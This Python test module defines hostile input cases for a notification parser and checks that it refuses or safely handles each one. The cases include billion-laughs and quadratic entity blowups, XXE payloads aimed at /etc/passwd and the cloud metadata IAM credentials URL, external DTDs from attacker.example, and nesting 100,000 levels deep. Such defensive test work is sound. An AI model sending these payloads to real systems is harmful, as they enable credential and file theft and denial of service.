"""Attacks on a document's structure: XML bombs, entities and DTDs, deep nesting, huge values."""

from __future__ import annotations

from reliability.corpus.case import (
    DTD,
    NOT_WELL_FORMED_JSON,
    NOT_WELL_FORMED_XML,
    Case,
    Family,
    refused,
)
from reliability.corpus.samples import (
    FIRST_SUBSCRIBER_JSON,
    FIRST_SUBSCRIBER_XML,
    LIST_NAME_JSON,
    LIST_NAME_XML,
    ROOT,
    SUBSCRIBED,
    subscribe_json,
    subscribe_xml,
    utf16,
)
from tests.support.hostile_bodies import (
    BILLION_LAUGHS,
    PARAMETER_ENTITIES,
    XXE,
    edit,
    nested,
)


def xml_safety() -> list[Case]:
    family = Family.XML_SAFETY
    quadratic = (
        b'<?xml version="1.0"?>\n<!DOCTYPE SubscribedNotification [<!ENTITY a "'
        + b"a" * 100_000
        + b'">]>\n<SubscribedNotification><ListName>'
        + b"&a;" * 1000
        + b"</ListName></SubscribedNotification>"
    )
    metadata = (
        b'<!DOCTYPE SubscribedNotification [<!ENTITY m SYSTEM "http://169.254.169.254/latest/'
        b'meta-data/iam/security-credentials/">]>\n'
    )
    xinclude = (
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        b'parse="text"/>'
    )
    return [
        Case("billion-laughs", family, BILLION_LAUGHS, DTD),
        Case("xxe-file-etc-passwd", family, XXE, DTD),
        Case("billion-laughs-in-utf-16", family, utf16(BILLION_LAUGHS), DTD),
        Case("quadratic-blowup", family, quadratic, DTD),
        Case(
            "xxe-cloud-metadata-url",
            family,
            subscribe_xml(ROOT, metadata + ROOT).replace(
                LIST_NAME_XML, b"<ListName>&m;</ListName>"
            ),
            DTD,
        ),
        Case("parameter-entities", family, PARAMETER_ENTITIES, DTD),
        Case(
            "external-dtd",
            family,
            subscribe_xml(
                ROOT,
                b'<!DOCTYPE SubscribedNotification SYSTEM "http://attacker.example/n.dtd">\n'
                + ROOT,
            ),
            DTD,
        ),
        Case(
            "empty-internal-dtd",
            family,
            subscribe_xml(ROOT, b"<!DOCTYPE SubscribedNotification []>\n" + ROOT),
            DTD,
        ),
        Case("dtd-alone", family, b"<!DOCTYPE SubscribedNotification>", DTD),
        Case("html-page", family, b"<!DOCTYPE html><html><body>Hi</body></html>", DTD),
        Case(
            "undeclared-entity",
            family,
            subscribe_xml(b"WebhookTestList4", b"Webhook&nbsp;List4"),
            NOT_WELL_FORMED_XML,
        ),
        # Constructs that look dangerous but fetch and expand nothing: valid notifications.
        Case(
            "xinclude-is-not-processed",
            family,
            subscribe_xml(LIST_NAME_XML, xinclude + LIST_NAME_XML),
            SUBSCRIBED,
        ),
        Case(
            "xsi-schema-location-is-not-fetched",
            family,
            subscribe_xml(
                ROOT, ROOT + b'xsi:schemaLocation="urn:tilte http://attacker.example/t.xsd" '
            ),
            SUBSCRIBED,
        ),
        Case(
            "stylesheet-processing-instruction",
            family,
            subscribe_xml(
                ROOT, b'<?xml-stylesheet href="http://attacker.example/x.xsl"?>\n' + ROOT
            ),
            SUBSCRIBED,
        ),
        Case(
            "cdata-section",
            family,
            subscribe_xml(LIST_NAME_XML, b"<ListName><![CDATA[Webhook<Test>&List4]]></ListName>"),
            SUBSCRIBED,
        ),
        Case(
            "comments-everywhere",
            family,
            subscribe_xml(LIST_NAME_XML, b"<!-- a -->" + LIST_NAME_XML + b"<!-- &lol; -->"),
            SUBSCRIBED,
        ),
        Case(
            "predefined-entities-and-character-references",
            family,
            subscribe_xml(b"WebhookTestList4", b"&lt;Webhook&gt; &amp; &#x1F600; &#169;"),
            SUBSCRIBED,
        ),
    ]


def nesting() -> list[Case]:
    family = Family.NESTING
    return [
        Case(
            "xml-nested-100000-levels",
            family,
            subscribe_xml(LIST_NAME_XML, nested(100_000) + LIST_NAME_XML),
            NOT_WELL_FORMED_XML,
        ),
        Case("json-nested-100000-lists", family, b"[" * 100_000, NOT_WELL_FORMED_JSON),
        Case(
            "json-nested-100000-objects",
            family,
            b'{"NotificationType": "Subscribe", "Extra": ' + b'{"a": ' * 100_000,
            NOT_WELL_FORMED_JSON,
        ),
        Case(
            "xml-nested-40-levels-inside-an-event",
            family,
            subscribe_xml(FIRST_SUBSCRIBER_XML, FIRST_SUBSCRIBER_XML + nested(40)),
            NOT_WELL_FORMED_XML,
        ),
        Case(
            "json-extra-field-nested-100000-levels",
            family,
            subscribe_json(
                FIRST_SUBSCRIBER_JSON,
                FIRST_SUBSCRIBER_JSON + b', "Extra": ' + b"[" * 100_000 + b"]" * 100_000,
            ),
            NOT_WELL_FORMED_JSON,
        ),
        # Fields Tilte might add, nested a little: kept.
        Case(
            "xml-extra-field-nested-10-levels",
            family,
            subscribe_xml(FIRST_SUBSCRIBER_XML, FIRST_SUBSCRIBER_XML + nested(10)),
            SUBSCRIBED,
        ),
        Case(
            "json-extra-field-nested-10-levels",
            family,
            subscribe_json(
                FIRST_SUBSCRIBER_JSON,
                FIRST_SUBSCRIBER_JSON + b', "Extra": ' + b'{"a": ' * 10 + b"1" + b"}" * 10,
            ),
            SUBSCRIBED,
        ),
    ]


def huge_values() -> list[Case]:
    family = Family.HUGE_VALUES
    too_big = refused("event_too_large")
    attributes = b" ".join(b'a%d="x"' % index for index in range(10_000))
    return [
        Case(
            "huge-attribute-1-mb",
            family,
            subscribe_xml(ROOT, ROOT + b'big="' + b"a" * 1_000_000 + b'" '),
            SUBSCRIBED,
        ),
        Case(
            "list-name-300-kb",
            family,
            subscribe_xml(b"WebhookTestList4", b"x" * 300_000),
            too_big,
        ),
        Case("10000-attributes", family, subscribe_xml(ROOT, ROOT + attributes + b" "), SUBSCRIBED),
        Case(
            "duplicate-attribute",
            family,
            subscribe_xml(ROOT, ROOT + b'a="1" a="2" '),
            NOT_WELL_FORMED_XML,
        ),
        Case(
            "list-name-200-kb-fits-a-message",
            family,
            subscribe_json(b"WebhookTestList4", b"x" * 200_000),
            SUBSCRIBED,
        ),
        Case(
            "extra-field-300-kb-in-an-event",
            family,
            subscribe_json(
                FIRST_SUBSCRIBER_JSON,
                FIRST_SUBSCRIBER_JSON + b', "Note": "' + b"n" * 300_000 + b'"',
            ),
            too_big,
        ),
        Case(
            "url-300-kb",
            family,
            edit(
                "MessageClick",
                "json",
                b"https://www.mail.com",
                b"https://x.example/" + b"u" * 300_000,
            ),
            too_big,
        ),
        Case(
            "json-list-of-a-million-zeros",
            family,
            subscribe_json(
                LIST_NAME_JSON, LIST_NAME_JSON + b', "Extra": [' + b"0," * 999_999 + b"0]"
            ),
            too_big,
        ),
        Case(
            "a-million-empty-elements",
            family,
            subscribe_xml(LIST_NAME_XML, b"<a/>" * 1_000_000 + LIST_NAME_XML),
            too_big,
        ),
    ]


def cases() -> list[Case]:
    """The hand-written cases of this module; in each family the first two are the quick run's."""
    return [*xml_safety(), *nesting(), *huge_values()]
